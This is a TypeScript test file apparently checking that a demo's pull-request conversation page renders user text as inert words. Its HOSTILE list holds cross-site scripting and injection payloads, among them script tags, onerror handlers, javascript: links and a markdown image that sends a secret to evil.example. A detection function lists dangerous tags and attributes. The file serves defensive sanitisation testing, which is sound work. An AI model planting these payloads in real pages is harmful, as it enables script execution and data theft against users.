/** The demonstration's page: it shows what was said, and whatever that was, it is words. */
import type { Element } from "hast";
import { describe, expect, test } from "vitest";
import { conversationPage, type Played } from "../../demo/index.ts";
import { elementsOf, wordsOfPage } from "./tree.ts";

const SHA = "a".repeat(40);
const AT = "2026-03-02T10:00:00Z";

/** A play in which everybody says this, everywhere. */
function saying(text: string): Played {
  const by = { author: text, createdAt: AT, updatedAt: AT, editor: undefined, minimized: undefined };
  const anchor = { path: text, line: 2, side: "RIGHT", startLine: undefined, startSide: "RIGHT", position: 2 } as const;
  const thread = {
    id: 3,
    commit: SHA,
    mergeBase: SHA,
    resolvedBy: undefined,
    anchor: { ...anchor, hunk: `@@ -0,0 +1,2 @@\n+one\n+${text}` },
  };
  return {
    repository: "ada/paper",
    pull: {
      ...{ number: 1, title: text, body: text, author: text, head: { ref: text }, base: { ref: text } },
      comments: [{ id: 1, body: text, ...by, reactions: [{ id: 9, author: text, content: text, createdAt: AT }] }],
      reviews: [{ id: 2, body: text, state: "COMMENTED", commit: SHA, submittedAt: AT, ...by }],
      threads: [{ ...thread, comments: [{ id: 4, review: 2, body: text, ...by }] }],
    },
    pushes: [{ sha: SHA, message: text, author: text, before: 0 }],
    statuses: [{ id: 5, sha: SHA, state: "success", context: text, description: text }],
    runs: [
      {
        ...{
          title: text,
          event: text,
          conclusion: text,
          outputs: { [text]: text },
          seconds: 1,
          summary: text,
          log: [text],
          dashboard: text,
        },
        requests: [{ what: text, status: 200 }],
      },
    ],
    violations: [text],
    voice: text,
  };
}

const HOSTILE = [
  "<script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  "<img src=https://evil.example/x onerror=alert(1)>",
  "![leak](https://evil.example/?q=secret)",
  "[click](javascript:alert(1)) <a href=' javascript:alert(1)'>click</a> <a href='data:text/html,x'>click</a>",
  "<iframe src=https://evil.example></iframe><object data=x></object><embed src=x><base href=https://evil.example>",
  "<svg onload=alert(1)><style>@import 'https://evil.example'</style></svg><link rel=stylesheet href=https://evil.example>",
  "<form action=https://evil.example><input name=q><button>go</button></form>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  '" onmouseover="alert(1)" x="',
  "<div style='position:fixed;inset:0' class='comment' id='run-1'>over all</div>",
  "</main></body></html><!-- --><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
];

const ALLOWED_LINK = /^(?:#|https?:|mailto:)/;
/** What could do more in a browser than be read. */
function faultsOf({ tagName, properties }: Element): string[] {
  const entries = Object.entries(properties).map(([name, value]) => [name.toLowerCase(), String(value)] as const);
  const isOurs = tagName === "style" || tagName === "meta" || tagName === "input";
  return [
    ...(/^(?:script|iframe|object|embed|base|link|img|svg|form|button|video|audio|frame|math)$/.test(tagName) ? [tagName] : []),
    ...entries
      .filter(([name]) => name.startsWith("on") || name === "src" || name === "srcset" || (name === "style" && !isOurs))
      .map(String),
    ...entries.filter(([name, value]) => name === "href" && !ALLOWED_LINK.test(value)).map(String),
  ];
}

describe("a page", () => {
  test.each(HOSTILE)("holds %j as words only, wherever it is said", (hostile) => {
    const elements = elementsOf(conversationPage(saying(hostile)));
    expect(elements.flatMap(faultsOf)).toEqual([]);
    const innocent = elementsOf(conversationPage(saying("words")));
    for (const own of ["style", "meta", "main", "body", "title"])
      expect(elements.filter(({ tagName }) => tagName === own).length, own).toBe(
        innocent.filter(({ tagName }) => tagName === own).length,
      );
  });

  test("may do nothing in a browser but be shown", () => {
    const policy = elementsOf(conversationPage(saying("words"))).find(({ properties }) => properties["httpEquiv"] !== undefined);
    expect(policy?.properties["content"]).toBe("default-src 'none'; style-src 'unsafe-inline'");
  });

  test("shows what was said in each place", () => {
    const html = conversationPage(saying("Every_place says this"));
    // Title twice, voice, violation, pull request, push, status, comment, review, thread and its line, run with all that it has.
    expect(wordsOfPage(html).split("Every_place says this").length - 1).toBeGreaterThanOrEqual(25);
  });

  test("folds a conversation that is resolved, and no other", () => {
    const played = saying("words");
    const [thread] = played.pull.threads;
    if (thread === undefined) throw new Error("there is a thread");
    const isOpen = (resolvedBy: string | undefined) =>
      elementsOf(conversationPage({ ...played, pull: { ...played.pull, threads: [{ ...thread, resolvedBy }] } })).find(
        ({ properties }) => String(properties["className"]).includes("thread"),
      )?.properties["open"];
    expect([isOpen(undefined), isOpen("grace")]).toEqual([true, undefined]);
  });

  test("breaks lines as GitHub does in comments, and shows its alerts", () => {
    const html = conversationPage(saying("> [!CAUTION]\n> made by nobody\n\none\ntwo"));
    const elements = elementsOf(html);
    expect(elements.some(({ properties }) => String(properties["className"]).includes("markdown-alert-caution"))).toBe(true);
    expect(wordsOfPage(html)).toContain("made by nobody");
    expect(html).toMatch(/one<br>\s*two/);
  });

  test("links what GitHub would link, and a number for no commit's name", () => {
    const links = elementsOf(conversationPage(saying(`ask @grace, see #7, since ${SHA} with seed 1078751`)))
      .filter(({ tagName }) => tagName === "a")
      .map(({ properties }) => String(properties["href"]));
    for (const target of [
      "https://github.com/grace",
      "https://github.com/ada/paper/issues/7",
      `https://github.com/ada/paper/commit/${SHA}`,
    ])
      expect(links).toContain(target);
    expect(links.join()).not.toContain("1078751");
  });

  test("shows the lines that a comment is about, numbered as in the new file", () => {
    const html = conversationPage(saying("the line"));
    const rows = elementsOf(html).filter(
      ({ tagName, properties }) => tagName === "tr" && String(properties["className"]) === "added",
    );
    expect(rows).toHaveLength(2);
    expect(html).toMatch(/<td class="number">2<\/td><td class="code"><span class="sign">\+<\/span>the line<\/td>/);
  });
});
